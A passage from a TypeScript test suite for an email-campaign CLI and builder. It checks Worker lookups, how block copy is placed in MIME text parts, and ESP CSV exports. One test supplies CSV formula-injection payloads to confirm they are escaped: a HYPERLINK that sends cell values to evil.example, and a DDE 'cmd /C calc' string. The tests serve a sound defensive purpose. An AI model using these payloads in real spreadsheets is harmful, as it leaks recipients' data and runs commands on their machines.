        /campaign "spring" is not stored on the Worker at http:\/\/127.0.0.1:\d+: nothing was recorded or built/,
      );
      expect(unstored.stderr).toContain('{"id":"spring","campaign":{}}');
      await expect(readdir(join(unstored.dir, "out"))).rejects.toThrow(/ENOENT/);
    }
    // unchecked but asking the Worker for the subject lines (which records experiment arms under the id): refused too
    const unchecked = await cliAgainstFakeWorker(["--skip-suppression-check"], false, null);
    expect(unchecked.code).toBe(1);
    expect(unchecked.asked).toEqual(["GET /v1/admin/campaigns/spring"]);
    expect(unchecked.stderr).toContain('campaign "spring" is not stored');
    // unchecked with one subject for all: the Worker is asked nothing, so nothing is checked
    const offline = await cliAgainstFakeWorker(["--skip-suppression-check"], false);
    expect(offline.asked).toEqual([]);
    const stored = await cliAgainstFakeWorker([], true);
    expect(stored.code).toBe(0);
    expect(stored.asked).toContain("POST /v1/admin/sends");
    expect(stored.stderr).not.toContain("is not stored");
  });
});

describe("email builder, the text part's block copy", () => {
  const copy = { block: "buyers", headline: "Welcome back", subline: "New mugs & more", cta: "See your picks" };

  it("MIME: the reader's send-time copy in the text part, the call to action leading where the first slot does", async () => {
    const { options } = await setup("user_id,email\nc0000002,ann@example.com\nc0000042,bob@example.com\n");
    const subjects = new Map([["c0000042", { subject: "Hi", preheader: null, copy }]]);
    const result = await buildEmails({ ...options, subjects });
    const [ann, bob] = await Promise.all(result.files.map(async (f) => PostalMime.parse(await readFile(f, "utf8"))));
    const token = /\/v1\/c\/([^/]+)\/row-0/.exec(bob?.text ?? "")?.[1] as string;
    expect(bob?.text).toContain(
      `Picked for you\n\nWelcome back\nNew mugs & more\n\nPicked for you when you open this email:\n`,
    );
    expect(bob?.text).toContain(`\nSee your picks: ${BASE}/v1/c/${token}/row-0\n`);
    // no copy for this reader: the text part as it was, no empty lines where the copy would go
    expect(ann?.text).toContain("Picked for you\n\nPicked for you when you open this email:\n");
    expect(ann?.text).not.toContain("Welcome back");
    expect(ann?.text).toMatch(/row-2\n\nVisit the shop:/);
  });

  it("ESP: the copy's columns only when some recipient has copy, their merge tags in the text part", async () => {
    const { options } = await setup("user_id\nc0000002\nc0000042\n");
    const subjects = new Map([
      ["c0000002", { subject: "Hi", preheader: null, copy }],
      ["c0000042", { subject: "Hi", preheader: null, copy: null }],
    ]);
    const result = await buildEmails({ ...options, esp: "braze", subjects });
    const csv = (await readFile(result.files.at(-1) as string, "utf8")).trim().split("\n");
    // the copy is in the text part only (recs-email): no escaped copy columns, only the preheader's
    expect(csv[0]).toBe("user_id,email,ot_token,ot_subject,ot_prehead,ot_headln,ot_subline,ot_cta,oh_prehead");
    expect(csv[1]).toMatch(/^c0000002,,[^,]+,Hi,,Welcome back,New mugs & more,See your picks: https:/);
    expect(csv[2]).toMatch(/^c0000042,,[^,]+,Hi,,,,,$/);
    const text = await readFile(result.files.find((f) => f.endsWith(".braze.txt")) as string, "utf8");
    const tag = ESP_MERGE_TAGS.braze;
    expect(text).toContain(`${tag("OT_HEADLN")}\n${tag("OT_SUBLINE")}\n`);
    // the call to action's column is its whole line, with the recipient's own click URL
    const ann = csv[1]?.split(",") ?? [];
    expect(ann[7]).toBe(`See your picks: ${BASE}/v1/c/${ann[2]}/row-0`);
    // a recipient without copy (empty columns): empty lines, nothing dangling
    const empty = text.replaceAll(/\{\{custom_attribute\.\$\{ot_(headline|subline|cta)\}\}\}/g, "");
    expect(empty).not.toMatch(/^:/m);
    expect(empty).toContain("Picked for you when you open this email:");
    const without = await buildEmails({
      ...options,
      outDir: `${options.outDir}-plain`,
      esp: "braze",
      subjects: new Map([["c0000002", { subject: "Hi", preheader: null }]]),
    });
    const header = (await readFile(without.files.at(-1) as string, "utf8")).split("\n")[0];
    expect(header).toBe("user_id,email,ot_token,ot_subject,ot_prehead,oh_prehead");
  });

  it("ESP: words a spreadsheet would run as a formula get an apostrophe; other '-' and '+' copy is left as it is", async () => {
    const { options } = await setup("user_id\nc0000002\nc0000042\n");
    // block copy renders catalog titles, which no admin check saw
    const hostile = {
      block: "buyers",
      headline: '=HYPERLINK("http://evil.example")',
      subline: "@home sale",
      cta: "-20% today",
    };
    // a '+' or '-' start with a call in it runs too: a function, or DDE
    const calls = {
      block: "buyers",
      headline: '+HYPERLINK("https://evil.example/?u="&A2&"&t="&C2,"Claim your gift")',
      subline: "-2+3+cmd|' /C calc'!A0",
      cta: "+ free gift",
    };
    const subjects = new Map([
      ["c0000002", { subject: "+1 new arrival", preheader: null, copy: hostile }],
      ["c0000042", { subject: "-SUM(1)", preheader: null, copy: calls }],
    ]);
    const result = await buildEmails({ ...options, esp: "mailchimp", subjects });
    const rows = parse(await readFile(result.files.at(-1) as string, "utf8"), { columns: true }) as Record<
      string,
      string
    >[];
    expect(rows[0]?.OT_HEADLN).toBe(`'=HYPERLINK("http://evil.example")`);
    expect(rows[0]?.OT_SUBLINE).toBe("'@home sale");
    expect(rows[0]?.OT_CTA).toMatch(/^-20% today: https:/);
    expect(rows[0]?.OT_SUBJECT).toBe("+1 new arrival");
    expect(rows[0]?.user_id).toBe("c0000002");
    expect(rows[1]?.OT_HEADLN).toBe(`'${calls.headline}`);
    expect(rows[1]?.OT_SUBLINE).toBe(`'${calls.subline}`);
    expect(rows[1]?.OT_CTA).toMatch(/^\+ free gift: https:/);
    expect(rows[1]?.OT_SUBJECT).toBe("'-SUM(1)");
  });
});
